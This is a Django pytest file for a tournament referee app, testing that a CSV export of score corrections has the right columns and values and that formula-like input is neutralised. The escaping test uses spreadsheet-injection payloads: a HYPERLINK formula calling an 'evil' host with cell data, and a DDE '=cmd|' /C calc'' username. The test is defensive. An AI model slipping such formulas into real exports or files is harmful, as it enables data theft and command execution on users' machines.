"""referees:corrections_csv — every correction of the tournament, for the record."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils.text import slugify

from referees import corrections
from referees.models import Dispute
from tests import factories

from .helpers import full_table, referee_of

pytestmark = pytest.mark.django_db


def test_the_csv_holds_who_when_why_before_after_and_the_score_change(client, django_assert_max_num_queries):
    table = full_table(3)
    tournament = table.series.tournament
    referee = referee_of(tournament, "ref")
    dispute = Dispute.objects.create(table=table, description="x", raised_by="A", paragraph="4.2.3")
    game = table.games.get(number=1)
    corrections.correct_game(
        game.pk,
        expected_version=1,
        changes={"irregularity": "declarer"},
        user=referee,
        reason="revoke, 4.2.3",
        dispute=dispute,
        paragraph="4.2.3",
    )
    corrections.void_game(table.games.get(number=2).pk, expected_version=1, user=referee, reason="dealt out of turn")
    other = full_table(3)  # another tournament's corrections stay out
    corrections.void_game(other.games.get(number=1).pk, expected_version=1, user=factories.user(), reason="elsewhere")
    client.force_login(referee)
    with django_assert_max_num_queries(6):
        response = client.get(reverse("referees:corrections_csv", args=[tournament.pk]))
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="{slugify(tournament.name)}-corrections.csv"' in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufefftime;series;table;deal;")  # German Excel's dialect, as the exports
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert [r["reason"] for r in rows] == ["revoke, 4.2.3", "dealt out of turn"]
    first = rows[0]
    assert (first["series"], first["table"], first["deal"], first["kind"], first["by"]) == (
        "1",
        "1",
        "1",
        "edit",
        "ref",
    )
    assert (first["dispute"], first["paragraph"]) == (str(dispute.pk), "4.2.3")
    assert (first["score_before"], first["score_after"], first["score_change"]) == ("48", "-96", "-144")
    assert "irregularity:  -> declarer" in first["changes"] and "won: true -> false" in first["changes"]
    assert rows[1]["kind"] == "void" and "voided: false -> true" in rows[1]["changes"]
    assert first["time"][:2] == "20" and "T" in first["time"]


@pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil/?"&A1;"x")', "+49 30 1234", "-2+3", "@SUM(A1)", "=1+1"])
def test_a_formula_like_reason_or_username_is_text_in_the_csv(client, reason):
    """Typed-in text never runs as a formula in Excel (core.tabular, as every export)."""
    table = full_table(3)
    tournament = table.series.tournament
    referee = referee_of(tournament, "=cmd|' /C calc'!A0")
    corrections.void_game(table.games.get(number=1).pk, expected_version=1, user=referee, reason=reason)
    client.force_login(referee)
    response = client.get(reverse("referees:corrections_csv", args=[tournament.pk]))
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    (row,) = csv.DictReader(io.StringIO(text), delimiter=";")
    assert row["reason"] == "'" + reason
    assert row["by"] == "'=cmd|' /C calc'!A0"
